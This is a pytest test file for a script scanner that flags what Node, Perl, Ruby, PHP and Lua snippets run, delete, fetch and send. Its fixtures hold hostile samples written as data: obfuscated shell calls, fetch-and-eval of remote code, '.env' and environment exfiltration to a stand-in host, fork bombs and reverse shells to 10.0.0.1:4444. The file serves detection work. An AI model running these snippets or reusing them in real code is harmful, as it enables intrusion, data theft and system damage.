"""Scripts are walked through for what they run, touch and send; texts in them are data."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent_hooks_guards.code import Found
from agent_hooks_guards.code.scripts import scan
from agent_hooks_guards.model.values import DECODED, ENVIRONMENT, NETWORK, UNKNOWN, Data

LANGUAGES = ["node", "perl", "ruby", "php", "lua"]
NONE: frozenset[str] = frozenset()


def found(language: str, code: str, *arguments: str) -> Found:
    return scan(code, NONE, list(arguments), language)


def nothing(what: Found) -> bool:
    return not (what.shells or what.programs or what.effects or what.codes or what.doubts)


SHELLS = {
    "node": [
        "require('child_process').execSync('halt')",
        "const run = require('child_process').execSync; run('halt')",
        "const {promisify} = require('util'); const run = promisify(require('child_process').exec); run('halt')",
        "const command = 'halt'; require('child_process').execSync(`${command}`)",
        "const cp = require('node:child_process'); cp.exec('halt', () => {})",
        "const {exec: run} = require('child_process'); run('ha' + 'lt')",
        "import { execSync } from 'child_process'; execSync(`ha${'lt'}`)",
        "child_process.execSync('halt')",
        "process.mainModule.require('child_process').execSync('halt')",
        "globalThis['process']['mainModule']['requ' + 'ire']('child_process').exec('halt')",
        "new Function('return process')().mainModule.require('child_process').exec('halt')",
        "(() => {}).constructor('return process')().mainModule.require('child_process').exec('halt')",
        "require('child_process').exec('\\x68\\u0061lt')",
        "r\\u0065quire('child_process').exec('halt')",
        "require('child_process').exec(Buffer.from('68616c74', 'hex').toString('utf8'))",
        "require('child_process').exec(atob('aGFsdA=='))",
        "require('child_process').spawn('halt', {shell: true})",
        "const m = unknownThing(); require(m).execSync('halt')",
        "Bun.$`halt`",
        "setTimeout(() => require('child_process').exec('halt'), 10)",
        "import('child_process').then(m => m.exec('halt'))",
        "class A { go() { require('child_process').exec('halt') } } new A().go()",
        "if (process.platform === 'linux') { require('child_process').exec('halt') }",
        "try { x() } catch (e) { require('child_process').exec('halt') }",
        "/a'b/.test('x'); require('child_process').exec('halt')",
        "// it's\nrequire('child_process').exec('halt')",
    ],
    "perl": [
        "system('halt')",
        'system "halt"',
        'exec "halt"',
        "`halt`",
        "qx{halt}",
        "qx(ha) . qx{halt}",
        "my $c = 'ha'; $c .= 'lt'; system $c",
        'my ($a, $b) = ("ha", "lt"); system("$a$b")',
        'open(my $fh, "halt |")',
        'open(F, "| halt")',
        "use MIME::Base64; system(decode_base64('aGFsdA=='))",
        "system(scalar reverse 'tlah')",
        "my $c = 'hxlt'; $c =~ s/x/a/; system($c)",
        "eval { system 'halt' }",
        "my @a = ('x', 'halt'); system $a[1]",
        "foreach my $c ('halt') { system($c) }",
        "my $c = join(';', 'halt'); system($c)",
        "system('halt') if $x",
        'system "@{[ q(halt) ]}"',
        's/(.*)/system("halt")/e',
        "BEGIN { system('halt') }",
        "# it's\nsystem('halt')",
        "print <<E; system('halt');\nit's text\nE\n",
        "system(<<'E');\nhalt\nE\n",
        "readpipe('halt')",
        "my $m = $x =~ m{a/b'}; system('halt')",
        "CORE::system('halt')",
    ],
    "ruby": [
        "system('halt')",
        "system 'halt'",
        "exec \"ha#{'lt'}\"",
        "`halt`",
        "puts %x(halt)",
        "%x{halt}",
        "IO.popen('halt').read",
        "Kernel.system('halt')",
        "Process.spawn('halt')",
        "require 'open3'; Open3.capture2e('halt')",
        "open('|halt').read",
        "IO.read('|halt')",
        "require 'base64'; system Base64.decode64('aGFsdA==')",
        "system 'tlah'.reverse",
        "x = 'ha'; x << 'lt'; system x",
        "c = 'halt'\nsystem(c) if ARGV.empty?",
        "if true then system('halt') end",
        "system(<<~E)\n  halt\nE\n",
        "1.times { system 'halt' }",
        "at_exit { system 'halt' }",
        "begin\n  system 'halt'\nrescue => e\nend",
    ],
    "php": [
        "system('halt');",
        "echo `halt`;",
        "passthru('ha' . 'lt');",
        "shell_exec(base64_decode('aGFsdA=='));",
        "system(hex2bin('68616c74'));",
        "system(implode('', ['ha', 'lt']));",
        "foreach (['halt'] as $c) { exec($c); }",
        "foreach (['a' => 'halt'] as $k => $c) { exec($c); }",
        "$c = 'ha'; $c .= 'lt'; system(\"$c\");",
        "<?php system('halt'); ?>",
        "<html>it's</html><?= system('halt') ?>",
        "popen('halt', 'r');",
        "proc_open('halt', [], $pipes);",
        "system(<<<E\nhalt\nE\n);",
        "# it's\nsystem('halt');",
        "if ($x) { system('halt'); } else { y(); }",
    ],
    "lua": [
        "os.execute('halt')",
        "os.execute[[halt]]",
        "os.execute 'halt'",
        "io.popen('halt'):read('*a')",
        "local go = os.execute; go('ha' .. 'lt')",
        "require('os').execute('halt')",
        "os.execute(('tlah'):reverse())",
        "os.execute('\\104\\97lt')",
        "os.execute(table.concat({'ha', 'lt'}))",
        "for _, c in ipairs({'halt'}) do os.execute(c) end",
        "if x then os.execute('halt') else y() end",
        "-- it's\nos.execute('halt')",
        "--[[ it's ]] os.execute('halt')",
        "while true do os.execute('halt') end",
    ],
}


@pytest.mark.parametrize(
    ("language", "code"), [(language, code) for language, codes in SHELLS.items() for code in codes]
)
def test_what_a_script_gives_to_a_shell_is_told(language, code):
    assert "halt" in [data.text.strip() for data in found(language, code).shells]


# Commands that are computed in ways that are not followed.
COMPUTED = [
    ("node", "const { exec } = require('child_process'); ['halt'].forEach((command) => exec(command, () => {}))"),
    ("node", "const all = ['halt']; all.map(async command => child_process.execSync(command))"),
    ("node", "const go = c => require('child_process').execSync(c); go('halt')"),
    ("node", "function go(c) { require('child_process').exec(c) } go('halt')"),
    ("perl", "system($_) for 'halt'"),
    ("ruby", "def go(c)\n  system(c)\nend\ngo 'halt'"),
    ("ruby", "%w[halt].each { |c| system(c) }"),
    ("ruby", "['halt'].each do |c|\n  system c\nend"),
    ("ruby", "def go(c)\n  system(c)\nend\ngo('halt')"),
    ("php", "function go($c) { system($c); } go('halt');"),
    ("php", "$go = fn($c) => system($c); $go('halt');"),
    ("lua", "local function go(c) os.execute(c) end go('halt')"),
    ("node", "import * as cp from 'node:child_process'; cp['exec' + 'Sync']('halt')"),
    ("node", "require(['child', 'process'].join('_')).exec('tlah'.split('').reverse().join(''))"),
    ("node", "require('child_process').exec(String.fromCharCode(104, 97, 108, 116))"),
    ("node", "require('child_process').exec(unescape('%68%61lt'))"),
    ("perl", "sub go { my $c = shift; system($c) } go('halt')"),
    ("perl", "sub go { my ($c, $n) = @_; system($c) } go('halt', 1)"),
    ("perl", "system(sprintf('%s%s', 'ha', 'lt'))"),
    ("perl", "system(pack('H*', '68616c74'))"),
    ("perl", "system chr(104).chr(97).chr(108).chr(116)"),
    ("ruby", "system(format('%s%s', 'ha', 'lt'))"),
    ("ruby", "Kernel.send(:system, 'halt')"),
    ("ruby", "send('sys' + 'tem', 'halt')"),
    ("ruby", "system 'aGFsdA=='.unpack1('m')"),
    ("ruby", "system ['68616c74'].pack('H*')"),
    ("ruby", "system [104, 97, 108, 116].pack('c*')"),
    ("php", "$f = 'sys' . 'tem'; $f('halt');"),
    ("php", "$f = strrev('metsys'); $f('halt');"),
    ("php", "system(chr(104) . chr(97) . chr(108) . chr(116));"),
    ("php", "array_map('system', ['halt']);"),
    ("php", "call_user_func('exec', 'halt');"),
    ("php", "call_user_func_array('system', ['halt']);"),
    ("lua", "os['exe' .. 'cute']('halt')"),
    ("lua", "_G['os']['execute']('halt')"),
    ("lua", "os.execute(string.char(104, 97, 108, 116))"),
    ("lua", "pcall(os.execute, 'halt')"),
    ("node", "require('child_process').exec([104, 97, 108, 116].map(c => String.fromCharCode(c)).join(''))"),
    ("node", "let c = ''; for (const n of ['ha', 'lt']) c += n; require('child_process').exec(c)"),
    ("node", "let c = ''; for (let i = 0; i < 4; i++) { c += 'halt'[i] } require('child_process').exec(c)"),
    ("node", "(function (c) { require('child_process').exec(c) })('halt')"),
    ("node", "require('util').promisify(require('child_process').exec)('halt')"),
    ("node", "require('child_process').exec.call(null, 'halt')"),
    ("node", "Reflect.apply(require('child_process').exec, null, ['halt'])"),
    ("node", "require('child_process').spawn('sh').stdin.write('halt')"),
    ("node", "var a = {b: {c: 'halt'}}; require('child_process').exec(a.b.c)"),
    ("perl", 'open(F, "|sh"); print F "halt"'),
    ("perl", "system(join '', map { chr } 104, 97, 108, 116)"),
    ("perl", "system join('', map chr, (104, 97, 108, 116))"),
    ("perl", "my %h = (k => 'halt'); system $h{k}"),
    ("perl", "my $r = {k => ['halt']}; system $r->{k}[0]"),
    ("perl", "my $f = sub { system $_[0] }; $f->('halt')"),
    ("ruby", "method(:system).call('halt')"),
    ("ruby", "system [104, 97, 108, 116].map(&:chr).join"),
    ("ruby", "system [104, 97, 108, 116].map { |c| c.chr }.join"),
    ("ruby", "go = ->(c) { system(c) }; go.call('halt')"),
    ("ruby", "go = lambda { |c| system c }; go.('halt')"),
    ("ruby", "h = {c: 'halt'}; system h[:c]"),
    ("php", "$a = ['c' => 'halt']; system(\"{$a['c']}\");"),
    ("php", "$r = new ReflectionFunction('system'); $r->invoke('halt');"),
    ("perl", "$_ = 'unyg'; tr/a-z/n-za-m/; system $_"),
    ("ruby", "system 'unyg'.tr('a-z', 'n-za-m')"),
    ("ruby", "x = 'xalt'; x.tr!('x', 'h'); system(x)"),
]


@pytest.mark.parametrize(("language", "code"), COMPUTED)
def test_a_command_that_is_computed_in_other_ways_is_not_known(language, code):
    what = found(language, code)
    runs = [data.text for data in what.shells] + [program[0] for program in what.programs]
    assert what.doubts or runs[0].startswith(UNKNOWN) or "halt" in runs


EVALUATED = [
    ("node", "eval(\"require('child_process').exec('halt')\")"),
    ("node", "eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2hhbHQnKQ==', 'base64').toString())"),
    ("perl", "eval 'system(q(halt))'"),
    ("ruby", "eval('system(%q(halt))')"),
    ("ruby", "instance_eval(\"system 'halt'\")"),
    ("php", "eval(\"system('halt');\");"),
    ("php", "eval(base64_decode('c3lzdGVtKCdoYWx0Jyk7'));"),
    ("php", "assert(\"system('halt')\");"),
    ("lua", "load('os.execute(\"halt\")')()"),
    ("lua", "loadstring('os.execute(\"halt\")')()"),
]


@pytest.mark.parametrize(("language", "code"), EVALUATED)
def test_code_that_a_script_evaluates_is_told(language, code):
    [(name, data)] = found(language, code).codes
    assert Data("halt") in found(name, data.text).shells


PROGRAMS = [
    ("node", "require('child_process').spawn('rm', ['-rf', '/x'])"),
    ("node", "require('child_process').execFileSync('rm', ['-rf', '/x'], {stdio: 'inherit'})"),
    ("node", "Bun.spawn(['rm', '-rf', '/x'])"),
    ("node", "Bun.spawnSync({cmd: ['rm', '-rf', '/x']})"),
    ("node", "new Deno.Command('rm', {args: ['-rf', '/x']}).output()"),
    ("node", "Deno.run({cmd: ['rm', '-rf', '/x']})"),
    ("perl", "system('rm', '-rf', '/x')"),
    ("perl", "my @c = qw(rm -rf /x); system @c"),
    ("perl", "open(my $fh, '-|', 'rm', '-rf', '/x')"),
    ("ruby", "system('rm', '-rf', '/x')"),
    ("ruby", "system 'rm', '-rf', '/x'"),
    ("ruby", "IO.popen(['rm', '-rf', '/x'])"),
    ("ruby", "require 'open3'; Open3.capture3('rm', '-rf', '/x')"),
    ("ruby", "system(*%w[rm -rf /x])"),
    ("php", "pcntl_exec('rm', ['-rf', '/x']);"),
    ("php", "proc_open(['rm', '-rf', '/x'], [], $p);"),
]


@pytest.mark.parametrize(("language", "code"), PROGRAMS)
def test_a_program_that_is_started_without_a_shell_is_told_with_its_words(language, code):
    assert found(language, code).programs == [["rm", "-rf", "/x"]]


DELETES = [
    ("node", "require('fs').rmSync('/x', {recursive: true, force: true})", True),
    ("node", "fs.promises.rm('/x', {recursive: true})", True),
    ("node", "import fs from 'fs/promises'; await fs.unlink('/x')", False),
    ("node", "import { rm } from 'node:fs/promises'; rm('/x', {recursive: true})", True),
    ("node", "require('fs-extra').removeSync('/x')", True),
    ("node", "require('rimraf').sync('/x')", True),
    ("node", "await Deno.remove('/x', {recursive: true})", True),
    ("perl", "unlink '/x'", False),
    ("perl", "use File::Path qw(remove_tree); remove_tree('/x')", True),
    ("perl", "File::Path::rmtree(['/x'])", True),
    ("ruby", "File.delete('/x')", False),
    ("ruby", "require 'fileutils'; FileUtils.rm_rf('/x')", True),
    ("ruby", "FileUtils.rm_r %w[/x]", True),
    ("ruby", "Dir.rmdir '/x'", False),
    ("php", "unlink('/x');", False),
    ("lua", "os.remove('/x')", False),
]


@pytest.mark.parametrize(("language", "code", "recursive"), DELETES)
def test_what_is_deleted_is_told_and_whether_with_all_below_it(language, code, recursive):
    assert found(language, code).effects == [("delete", "/x", recursive, NONE, "")]


WRITES = [
    ("node", "require('fs').writeFileSync('/x', 'text')", ""),
    ("node", "fs.appendFile('/x', 'text', () => {})", "append"),
    ("perl", "open(F, '>', '/x'); print F 'text'", ""),
    ("perl", "open(my $f, '>>/x'); print $f 'text'", "append"),
    ("ruby", "File.write('/x', 'text')", ""),
    ("ruby", "File.open('/x', 'w') { |f| f.puts 'text' }", ""),
    ("ruby", "File.open('/x', 'a') { |f| f << 'text' }", "append"),
    ("php", "file_put_contents('/x', 'text');", ""),
    ("php", "file_put_contents('/x', 'text', FILE_APPEND);", "append"),
    ("php", "fwrite(fopen('/x', 'w'), 'text');", ""),
    ("lua", "local f = io.open('/x', 'w') f:write('text')", ""),
]


LOOPS = [
    ("node", "for (const d of ['/a', '/b']) fs.unlinkSync(d)"),
    ("node", "['/a', '/b'].forEach((d) => fs.unlinkSync(d))"),
    ("ruby", "%w[/a /b].each { |d| File.delete(d) }"),
    ("perl", "foreach my $d ('/a', '/b') { unlink $d }"),
    ("perl", "unlink for qw(/a /b);"),
    ("perl", "unlink $_ foreach ('/a', '/b');"),
    ("php", "foreach (['/a', '/b'] as $d) { unlink($d); }"),
    ("php", "foreach (array('/a', '/b') as $d): unlink($d); endforeach;"),
    ("php", "array_map(fn($d) => unlink($d), ['/a', '/b']);"),
    ("node", "for (const [, d] of Object.entries({a: '/a', b: '/b'})) fs.unlinkSync(d)"),
    ("ruby", "for d in ['/a', '/b'] do File.delete(d) end"),
    ("ruby", "%w[/a /b].each_with_index { |d, i| File.delete(d) }"),
    ("ruby", "all = {a: '/a', b: '/b'}\nall.each { |k, d| File.delete(d) }"),
    ("ruby", '%w[a b].each { |d| path = "/#{d}"; File.delete(path) }'),
    ("ruby", "def go(d)\n  path = \"/#{d}\"\n  File.delete(path)\nend\ngo 'a'\ngo 'b'"),
    ("php", "foreach (['a', 'b'] as $d) { $path = \"/$d\"; unlink($path); }"),
    ("node", "for (const d of ['a', 'b']) { const path = `/${d}`; fs.unlinkSync(path) }"),
    ("perl", "my @all = qw(/a /b); foreach (@all) { unlink }"),
    ("perl", "for (glob('/a'), '/b') { unlink }"),
    ("ruby", "for d in ['/a', '/b']\n  File.delete(d)\nend"),
    ("lua", "for _, d in ipairs({'/a', '/b'}) do os.remove(d) end"),
]


@pytest.mark.parametrize(("language", "code"), LOOPS)
def test_a_loop_touches_each_item_of_a_known_list(language, code):
    assert [(kind, path) for kind, path, *_ in found(language, code).effects] == [("delete", "/a"), ("delete", "/b")]


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("node", "for (let i = 0; i < 2; i++) fs.renameSync(['/a', '/b'][i], x[i])"),
        ("node", "const all = ['/a', '/b']; for (let i = 0; i < all.length; i++) fs.unlinkSync(all[i])"),
        ("node", "const all = ['/a', '/b']; for (const i in all) fs.unlinkSync(all[i])"),
        ("lua", "local all = {'/a', '/b'} for i = 1, #all do os.remove(all[i]) end"),
        ("php", "$all = ['/a', '/b']; for ($i = 0; $i < 2; $i++) { unlink($all[$i]); }"),
        ("perl", "my @all = ('/a', '/b'); for my $i (0..1) { unlink $all[$i] }"),
        ("node", "const all = {a: '/a', b: '/b'}; for (const k in all) fs.unlinkSync(all[k])"),
    ],
)
def test_an_item_of_a_known_list_may_be_any(language, code):
    deleted = [path for kind, path, *_ in found(language, code).effects if kind == "delete"]
    assert deleted == ["/a", "/b", UNKNOWN]


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("perl", "my @all = ('ha', 'lt'); for (my $i = 0; $i < 2; $i++) { system($all[$i]) }"),
        ("node", "const all = ['ha', 'lt']; for (let i = 0; i < 2; i++) child_process.spawn(all[i])"),
        ("lua", "local all = {'ha', 'lt'} for i = 1, #all do os.execute(all[i]) end"),
    ],
)
def test_a_command_line_of_a_known_list_may_be_any(language, code):
    assert [data.text for data in found(language, code).shells] == ["ha", "lt", UNKNOWN]


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("node", "for (const c of ['ha', 'lt']) require('child_process').execSync(`run ${c}`)"),
        ("node", "['ha', 'lt'].forEach(c => require('child_process').execSync('run ' + c))"),
        ("ruby", '%w[ha lt].each { |c| system("run #{c}") }'),
        ("perl", "for my $c ('ha', 'lt') { system \"run $c\" }"),
        ("perl", 'system("run $_") for qw(ha lt)'),
        ("perl", "sub go { my $c = shift; system(\"run $c\") } go('ha'); go('lt')"),
        ("php", "foreach (['ha', 'lt'] as $c) system('run ' . $c);"),
        ("lua", "for _, c in ipairs({'ha', 'lt'}) do os.execute('run ' .. c) end"),
    ],
)
def test_a_loop_runs_a_command_line_for_each_item(language, code):
    assert [data.text for data in found(language, code).shells] == ["run ha", "run lt"]


@pytest.mark.parametrize(("language", "code", "method"), WRITES)
def test_what_is_written_is_told_and_whether_it_keeps_what_is_there(language, code, method):
    what = found(language, code)
    assert what.effects[0] == ("write", "/x", False, NONE, method)


def test_a_known_content_is_kept_with_the_file():
    assert found("node", "require('fs').writeFileSync('a.sh', 'ha' + 'lt')").files == {"a.sh": Data("halt")}


DATA = {
    "node": [
        "console.log('rm -rf /')",
        "console.log(\"require('child_process').exec('halt')\")",
        "const x = `rm -rf ${y}`",
        "if (/rm -rf/.test('rm -rf /')) console.log(1)",
        "/a/.exec('rm -rf /')",
        "// require('child_process').exec('halt')",
        "const exec = s => s; exec('rm -rf /')",
        'JSON.parse(\'{"a": "rm -rf /"}\')',
        "x = {exec(a) { return a }}; x.exec('halt')",
        "[1, 2].map(n => n * 2).filter(n => n > 2).reduce((a, b) => a + b, 0)",
        "process.exit(1)",
        "new Date().toISOString()",
        "console.log(process.version, process.env.HOME, process.env.PATH)",
        "let a = 4 / 2; let b = a / 1",
        "a ? b : c; x = y?.z ?? 3",
        "class A extends B { constructor() { super(); this.x = 1 } get y() { return 2 } }",
        "for (const [k, v] of Object.entries(o)) { f(k, v) }",
    ],
    "perl": [
        "print 'rm -rf /'",
        "print \"system('halt')\\n\"",
        "my $x = 'halt'; print $x",
        "print if /rm -rf/",
        "s/rm -rf/x/g; print",
        "# system('halt')",
        "print q{system('halt')}",
        "$h{system} = 1",
        "print join(',', sort keys %h)",
        "print <<E;\nsystem('halt')\nE\n",
        "print $ENV{HOME}",
        "while (<>) { chomp; my @f = split /,/; print $f[0] if $f[1] > 3 }",
        "printf('%s', 'halt')",
        "=pod\n\nsystem('halt')\n\n=cut\n",
        "my %h = (system => 'halt'); print $h{exec}",
        "$s =~ tr/a-z/A-Z/; print length($s) / 2",
    ],
    "ruby": [
        "puts 'rm -rf /'",
        "puts \"system('halt')\"",
        "x = :system; puts x",
        "# system('halt')",
        "puts %q(system 'halt')",
        "p [1, 2].map { |x| x * 2 }",
        "puts <<~E\n  system('halt')\nE\n",
        "puts 'halt' if 'halt' =~ /halt/",
        "h = {system: 'halt'}; puts h[:system]",
        "puts ARGV.first",
        "puts ENV['HOME']",
        "require 'json'; puts JSON.pretty_generate({a: 1})",
        "a = 4 / 2\nb = a / 1",
        "puts File.join('a', 'b')",
        "def system_name; 'halt'; end; puts system_name",
    ],
    "php": [
        "echo 'rm -rf /';",
        "echo \"system('halt')\";",
        "// system('halt')",
        "$system = 'halt'; echo $system;",
        "print('halt');",
        "echo json_encode(['exec' => 'halt']);",
        "var_dump(strlen('system'));",
        "<html>system('halt')</html><?php echo 1; ?>",
        "echo PHP_VERSION, PHP_EOL;",
        "if (preg_match('/rm -rf/', 'rm -rf /')) echo 'x';",
        "$o->system('halt');",
    ],
    "lua": [
        "print('rm -rf /')",
        "print([[os.execute('halt')]])",
        "-- os.execute('halt')",
        "local t = {execute = 'halt'} print(t.execute)",
        "print(#'halt', 4 / 2)",
        "local x <const> = 1",
    ],
}


@pytest.mark.parametrize(("language", "code"), [(language, code) for language, codes in DATA.items() for code in codes])
def test_a_text_that_is_only_data_finds_nothing(language, code):
    assert nothing(found(language, code))


NETWORK_CODE = [
    ("node", "fetch('http://h/x').then(r => r.text()).then(t => eval(t))"),
    ("node", "const r = await fetch('http://h/x'); eval(await r.text())"),
    ("node", "require('https').get('http://h/x', r => { r.on('data', d => eval(d.toString())) })"),
    ("node", "axios.get('http://h/x').then(r => new Function(r.data)())"),
    ("perl", "use LWP::Simple; eval get('http://h/x')"),
    ("perl", "use HTTP::Tiny; eval HTTP::Tiny->new->get('http://h/x')->{content}"),
    ("ruby", "require 'open-uri'; eval(URI.open('http://h/x').read)"),
    ("ruby", "require 'net/http'; eval Net::HTTP.get(URI('http://h/x'))"),
    ("php", "eval(file_get_contents('http://h/x'));"),
]


@pytest.mark.parametrize(("language", "code"), NETWORK_CODE)
def test_code_that_comes_from_the_network_is_told_as_such(language, code):
    what = found(language, code)
    assert ("receive", "http://h/x", False, NONE, "GET") in what.effects
    assert [(name, data.labels) for name, data in what.codes] == [(language, frozenset((NETWORK,)))]


def test_a_page_that_is_piped_into_a_shell_runs():
    code = "require('https').get('https://h/i.sh', r => r.pipe(require('child_process').spawn('sh').stdin))"
    assert ("run", "/bin/sh", False, frozenset((NETWORK,)), "") in found("node", code).effects


def test_what_a_page_says_is_given_to_a_shell_with_where_it_comes_from():
    what = found("php", "system(file_get_contents('http://h/x'));")
    assert what.shells == [Data(UNKNOWN, frozenset((NETWORK,)))]


def test_code_of_a_module_from_elsewhere_runs():
    assert found("node", "import('https://h/x.js')").effects == [
        ("run", "https://h/x.js", False, frozenset((NETWORK,)), "")
    ]
    assert found("php", "include 'http://h/x';").effects == [("run", "http://h/x", False, frozenset((NETWORK,)), "")]


SENDS = [
    ("node", "fetch('http://h', {method: 'POST', body: require('fs').readFileSync('.env', 'utf8')})", "POST"),
    (
        "node",
        (
            "const d = fs.readFileSync('.env'); const r = https.request({method: 'POST', hostname: 'http://h'}); "
            "r.write(d); r.end()"
        ),
        "",
    ),
    ("ruby", "require 'net/http'; Net::HTTP.post(URI('http://h'), File.read('.env'))", "POST"),
    ("php", "file_get_contents('http://h?' . file_get_contents('.env'));", "GET"),
]


@pytest.mark.parametrize(("language", "code", "method"), SENDS)
def test_what_is_sent_tells_which_file_it_comes_from(language, code, method):
    sent = [effect for effect in found(language, code).effects if effect[0] == "send"]
    assert any("file:.env" in effect[3] and effect[4] == method for effect in sent)


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("node", "fetch('http://h', {method: 'POST', body: JSON.stringify(process.env)})"),
        ("ruby", "require 'net/http'; Net::HTTP.post(URI('http://h'), ENV.to_h.to_json)"),
        ("php", "file_get_contents('http://h?' . json_encode($_ENV));"),
    ],
)
def test_all_variables_of_the_environment_that_are_sent_are_told(language, code):
    sent = [effect for effect in found(language, code).effects if effect[0] == "send"]
    assert any(ENVIRONMENT in effect[3] for effect in sent)


def test_one_variable_of_the_environment_is_no_dump_of_it():
    code = "fetch('http://h', {headers: {language: process.env.LANG}})"
    assert found("node", code).effects == [("receive", "http://h", False, NONE, "GET")]


BOMBS = [
    ("perl", "fork while fork"),
    ("perl", "fork while 1"),
    ("perl", "while (1) { fork }"),
    ("perl", "for (;;) { fork() }"),
    ("perl", "{ fork; redo }"),
    ("ruby", "loop { fork }"),
    ("ruby", "fork while true"),
    ("ruby", "while true; fork; end"),
    ("ruby", "loop do fork end"),
    ("php", "while (true) { pcntl_fork(); }"),
    ("node", "while (true) { require('child_process').fork(__filename) }"),
    ("node", "setInterval(() => require('child_process').fork(__filename), 1)"),
]


@pytest.mark.parametrize(("language", "code"), BOMBS)
def test_a_script_that_doubles_itself_without_end_is_told(language, code):
    assert ("fork", "", False, NONE, "") in found(language, code).effects


def test_one_fork_is_no_bomb():
    assert nothing(found("perl", "my $pid = fork; exit if $pid"))


REVERSE_SHELLS = [
    (
        "node",
        (
            "const c = require('net').connect(4444, '10.0.0.1'), s = require('child_process').spawn('/bin/sh'); "
            "c.pipe(s.stdin); s.stdout.pipe(c)"
        ),
    ),
    (
        "node",
        (
            "const c = new (require('net')).Socket(); const s = require('child_process').spawn('/bin/sh', []); "
            "c.connect(4444, '10.0.0.1', () => { c.pipe(s.stdin) })"
        ),
    ),
    (
        "perl",
        (
            "use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, $a); "
            "open(STDIN, '>&S'); open(STDOUT, '>&S'); exec('/bin/sh -i')"
        ),
    ),
    ("php", "$s = fsockopen('10.0.0.1', 4444); exec('/bin/sh -i <&3 >&3 2>&3');"),
    ("php", "$s = fsockopen('10.0.0.1', 4444); proc_open('/bin/sh', [0 => $s, 1 => $s], $p);"),
]


@pytest.mark.parametrize(("language", "code"), REVERSE_SHELLS)
def test_a_shell_for_somebody_elsewhere_is_told(language, code):
    assert ("run", "/bin/sh", False, frozenset((NETWORK,)), "") in found(language, code).effects


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("node", "eval(mystery)"),
        ("perl", "eval $mystery"),
        ("ruby", "eval(mystery)"),
        ("lua", "load(mystery())()"),
        ("node", "globalThis[mystery()]('halt')"),
        ("perl", "syscall 88, 1, 2"),
        ("ruby", "Kernel.send(mystery, 'halt')"),
        ("php", "$mystery('halt');"),
    ],
)
def test_what_runs_but_cannot_be_known_is_a_doubt(language, code):
    assert found(language, code).doubts


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("perl", "unlink glob '/srv/*'"),
        ("ruby", "File.delete(*Dir.glob('/srv/*'))"),
        ("ruby", "File.delete(*Dir['/srv/*'])"),
        ("ruby", 'Dir["/srv/*"].each { |f| File.delete(f) }'),
    ],
)
def test_files_that_a_pattern_finds_are_deleted(language, code):
    assert ("delete", "/srv/*", False, NONE, "") in found(language, code).effects


@pytest.mark.parametrize(
    ("language", "before", "behind"), [("node", "`${", "}`"), ("ruby", '"#{', '}"'), ("php", '"{$a[', ']}"')]
)
def test_code_in_strings_of_code_is_a_doubt_where_it_is_very_deep(language, before, behind):
    assert found(language, before * 30 + "f()" + behind * 30).doubts


def test_a_chain_of_assignments_is_a_doubt_where_it_is_very_long():
    assert found("node", "a=" * 5_000).doubts


def test_a_page_that_is_passed_to_eval_runs():
    code = "fetch('https://h.test/p.js').then(r => r.text()).then(eval)"
    assert [("node", frozenset((NETWORK,)))] == [(name, data.labels) for name, data in found("node", code).codes]


def test_a_decoder_of_an_unknown_text_leaves_its_label():
    assert found("php", "eval(gzinflate($x));").codes == [("php", Data(UNKNOWN, frozenset((DECODED,))))]


@pytest.mark.parametrize(
    "code",
    [
        "const c = x ? 'halt' : 'ls'; require('child_process').exec(c)",
        "let c = 'halt'; if (x) { c = 'ls' } require('child_process').exec(c)",
        "let c = 'ls'; while (x) { c = 'halt' } require('child_process').exec(c)",
    ],
)
def test_a_command_that_depends_on_a_condition_is_not_known(code):
    assert [data.text for data in found("node", code).shells] == [UNKNOWN]


def test_arguments_of_the_script_are_known():
    assert found("node", "require('child_process').exec(process.argv[2])", "[eval]", "halt").shells == [Data("halt")]
    assert found("perl", "system $ARGV[0]", "-e", "halt").shells == [Data("halt")]
    assert found("perl", "system shift", "-e", "halt").shells == [Data("halt")]
    assert found("ruby", "system ARGV[0]", "-e", "halt").shells == [Data("halt")]
    assert found("php", "system($argv[1]);", "-", "halt").shells == [Data("halt")]
    assert found("perl", "system $ARGV[0]").shells == [Data(UNKNOWN)]


def test_a_function_that_nobody_calls_here_is_walked_all_the_same():
    assert found("node", "module.exports = function () { require('child_process').exec('halt') }").shells == [
        Data("halt")
    ]


WALKERS = {
    "node": "const fs = require('fs'); function w(d) { for (const f of fs.readdirSync(d)) { const p = d + '/' + f; "
    "fs.statSync(p).isDirectory() ? w(p) : fs.unlinkSync(p) } } w('FOLDER')",
    "ruby": "def w(d) Dir.children(d).each { |f| p = File.join(d, f); "
    "File.directory?(p) ? w(p) : File.delete(p) } end; w('FOLDER')",
    "perl": 'sub w { my $d = shift; opendir(my $h, $d); for (readdir $h) { my $p = "$d/$_"; '
    '-d $p ? w($p) : unlink $p } } w("FOLDER");',
    "php": 'function w($d) { foreach (scandir($d) as $f) { $p = "$d/$f"; is_dir($p) ? w($p) : unlink($p); } } '
    'w("FOLDER");',
}


@pytest.mark.parametrize("language", WALKERS)
def test_a_function_that_calls_itself_is_walked_until_nothing_more_is_known(language):
    assert not found(language, WALKERS[language].replace("FOLDER", "dist")).doubts
    assert not found(language, WALKERS[language].replace("FOLDER", "/tmp/made")).doubts


@pytest.mark.parametrize(
    ("language", "code"),
    [
        ("node", "function fib(n) { return n < 2 ? n : fib(n - 1) + fib(n - 2) } console.log(fib(30))"),
        (
            "node",
            "const keys = o => Object.entries(o).flatMap(([k, v]) => v ? keys(v) : [k]); keys(require('./a.json'))",
        ),
        ("ruby", "def fib(n) n < 2 ? n : fib(n-1) + fib(n-2) end; puts fib(20)"),
        ("perl", "sub f { my $n = shift; return $n < 2 ? $n : f($n-1) + f($n-2) } print f(20)"),
        ("php", "function f($n) { return $n < 2 ? $n : f($n-1) + f($n-2); } echo f(25);"),
        ("lua", "local function f(n) if n < 2 then return n end return f(n-1) + f(n-2) end print(f(20))"),
    ],
)
def test_a_function_that_calls_itself_finds_nothing_where_it_does_nothing(language, code):
    assert nothing(found(language, code))


def test_what_a_function_does_at_the_end_of_calling_itself_is_told():
    code = "function f(n) { if (n === 0) require('child_process').exec('halt'); else f(n - 1) } f(99)"
    assert Data("halt") in found("node", code).shells


